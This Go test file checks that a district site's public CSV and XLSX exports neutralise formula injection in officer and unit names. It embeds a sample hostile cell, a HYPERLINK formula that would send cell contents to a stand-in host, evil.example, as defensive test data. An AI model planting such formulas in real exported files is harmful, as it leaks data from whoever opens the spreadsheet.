package publish

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/dondoc/dondoc/store/storetest"
	"github.com/xuri/excelize/v2"
)

// The public CSV of a district whose officers and units carry formula
// names quotes them; the public XLSX keeps them as plain strings.
func TestPublicFilesNeutraliseFormulas(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`
	s := storetest.OpenSQLite(t)
	data := storetest.District(t, now)
	prefixes := []string{"=", "+", "-", "@"}
	for i := range data.Officers {
		data.Officers[i].Name = prefixes[i%len(prefixes)] + data.Officers[i].Name
	}
	data.Officers[0].Name = evil
	for i := range data.Units {
		data.Units[i].Name = "=" + data.Units[i].Name
	}
	storetest.LoadSample(t, s, data)
	root := site(t, s)
	res := get(t, root, "/cong-khai/2026-10.csv")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("csv: status %d", res.StatusCode)
	}
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(body(t, res), "\uFEFF")))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	quoted := 0
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("csv cell %q starts a formula", cell)
			}
			if strings.HasPrefix(cell, "'") {
				quoted++
			}
		}
	}
	if quoted == 0 {
		t.Fatal("csv: no neutralised cell: the hostile names are not in the report")
	}

	res = get(t, root, "/cong-khai/2026-10.xlsx")
	f, err := excelize.OpenReader(bytes.NewReader([]byte(body(t, res))))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	strs := 0
	for _, sheet := range f.GetSheetList() {
		rows, _ := f.GetRows(sheet)
		for y, row := range rows {
			for x, v := range row {
				cell, _ := excelize.CoordinatesToCellName(x+1, y+1)
				if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
					t.Errorf("xlsx %s!%s holds a formula %q", sheet, cell, fm)
				}
				if v != "" && strings.ContainsRune("=+-@", rune(v[0])) {
					if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("xlsx %s!%s %q has type %v", sheet, cell, v, typ)
					}
					strs++
				}
			}
		}
	}
	if strs == 0 {
		t.Error("xlsx: the hostile names are not in the workbook")
	}
}
